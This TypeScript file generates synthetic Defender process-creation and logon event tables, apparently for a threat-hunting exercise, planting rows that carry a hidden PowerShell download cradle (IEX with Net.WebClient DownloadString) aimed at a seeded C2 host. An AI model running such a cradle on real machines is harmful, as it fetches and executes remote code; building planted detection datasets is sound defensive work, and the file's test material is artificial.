/**
 * DeviceProcessEvents (process creation: child image, command line, hashes, parent block) and
 * DeviceLogonEvents (interactive, network and remote logons; a share of failures). Planted process rows
 * are PowerShell download cradles that name a C2 host in the command line.
 */
import { programFolder, type Device, type Program } from '../population.js';
import {
  fillCommand, hostVariants, initiatingBlock, pickActor, pickProgram, plantedPath, programIndex, type TableGenerator,
} from '../table-gen.js';
import { documentNames } from '../vocab.js';

export const deviceProcessEvents: TableGenerator = {
  table: 'DeviceProcessEvents',
  keyColumns: ['ReportId'],
  plantColumns: { ProcessCommandLine: 'text' },

  variants(plant) {
    return hostVariants(plant, ['cradle'], ['c2']);
  },

  row(ctx, i, ts, v) {
    const { rng, pop } = ctx;
    const a = pickActor(ctx);
    let child: number;
    let parent: number;
    let childCmd: string;
    if (v) {
      child = programIndex(pop, 'powershell.exe');
      parent = programIndex(pop, 'cmd.exe');
      childCmd = `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://${v.value}${plantedPath(v.indicator, i)}')"`;
    } else {
      child = pickProgram(ctx, false);
      const c = pop.programs[child]!;
      parent = programIndex(pop, c.integrity === 'System' ? 'svchost.exe' : rng.chance(0.7) ? 'explorer.exe' : 'cmd.exe');
      childCmd = fillCommand(rng.pick(c.commands), a.user, { file: rng.pick(documentNames), n: rng.int(1, 65535) });
    }
    const c = pop.programs[child] as Program;
    const par = pop.programs[parent] as Program;
    const init = initiatingBlock(ctx, a, parent, ts, fillCommand(par.commands[0]!, a.user, {}), 'userinit.exe');
    const system = c.integrity === 'System';
    return {
      Timestamp: new Date(ts),
      DeviceId: a.dev.id,
      DeviceName: a.dev.name,
      ActionType: 'ProcessCreated',
      FileName: c.file,
      FolderPath: `${programFolder(c, a.user)}\\${c.file}`,
      SHA1: c.sha1,
      SHA256: c.sha256,
      MD5: c.md5,
      FileSize: c.size,
      ProcessVersionInfoCompanyName: c.company,
      ProcessVersionInfoProductName: c.product,
      ProcessVersionInfoProductVersion: c.version,
      ProcessVersionInfoInternalFileName: c.file.replace(/\.exe$/i, ''),
      ProcessVersionInfoOriginalFileName: c.file,
      ProcessVersionInfoFileDescription: c.description,
      ProcessId: 1000 + rng.int(0, 30000) * 4,
      ProcessCommandLine: childCmd,
      ProcessIntegrityLevel: c.integrity,
      ProcessTokenElevation: system ? 'TokenElevationTypeDefault' : 'TokenElevationTypeLimited',
      ProcessCreationTime: new Date(ts),
      AccountDomain: system ? 'nt authority' : pop.netbios.toLowerCase(),
      AccountName: system ? 'system' : a.user.name,
      AccountSid: system ? 'S-1-5-18' : a.user.sid,
      AccountUpn: system ? '' : a.user.upn,
      AccountObjectId: system ? '' : a.user.objectId,
      LogonId: 999 + (a.devIndex % 7),
      ...init,
      InitiatingProcessLogonId: 999 + (a.devIndex % 7),
      InitiatingProcessSignerType: 'OsVendor',
      InitiatingProcessSignatureStatus: 'Valid',
      ReportId: 40_000 + i,
      AppGuardContainerId: '',
      AdditionalFields: '',
    };
  },
};

const logonTypes = ['Interactive', 'Network', 'RemoteInteractive', 'Unlock', 'CachedInteractive', 'Service'] as const;
const logonWeights = [30, 40, 6, 14, 5, 5];

export const deviceLogonEvents: TableGenerator = {
  table: 'DeviceLogonEvents',
  keyColumns: ['ReportId'],
  plantColumns: {},

  row(ctx, i, ts) {
    const { rng, pop } = ctx;
    const a = pickActor(ctx);
    const type: string = rng.weighted(logonTypes, logonWeights);
    const failed = rng.chance(0.08);
    const remote = type === 'Network' || type === 'RemoteInteractive';
    const peer = remote ? (pop.devices[rng.int(0, pop.devices.length - 1)] as Device) : null;
    const lsass = programIndex(pop, 'lsass.exe');
    const init = initiatingBlock(ctx, a, lsass, ts, 'C:\\Windows\\system32\\lsass.exe', 'wininit.exe');
    return {
      Timestamp: new Date(ts),
      DeviceId: a.dev.id,
      DeviceName: a.dev.name,
      ActionType: failed ? 'LogonFailed' : 'LogonSuccess',
      LogonType: type,
      AccountDomain: type === 'Service' ? 'nt authority' : pop.netbios.toLowerCase(),
      AccountName: type === 'Service' ? 'system' : a.user.name,
      AccountSid: type === 'Service' ? 'S-1-5-18' : a.user.sid,
      Protocol: remote ? (rng.chance(0.8) ? 'Kerberos' : 'NTLM') : 'Negotiate',
      FailureReason: failed ? rng.pick(['InvalidUserNameOrPassword', 'UserAccountLocked', 'WrongPassword']) : '',
      IsLocalAdmin: rng.chance(0.1),
      LogonId: rng.int(100_000, 9_999_999),
      RemoteDeviceName: peer ? peer.name.split('.')[0]! : '',
      RemoteIP: peer ? peer.ip : '',
      RemoteIPType: peer ? 'Private' : '',
      RemotePort: peer ? rng.int(49152, 65535) : null,
      ...init,
      ReportId: 50_000 + i,
      AppGuardContainerId: '',
      AdditionalFields: JSON.stringify({ IsLocalLogon: !remote }),
      InitiatingProcessSessionId: 0,
      IsInitiatingProcessRemoteSession: false,
      InitiatingProcessRemoteSessionDeviceName: '',
      InitiatingProcessRemoteSessionIP: '',
    };
  },
};
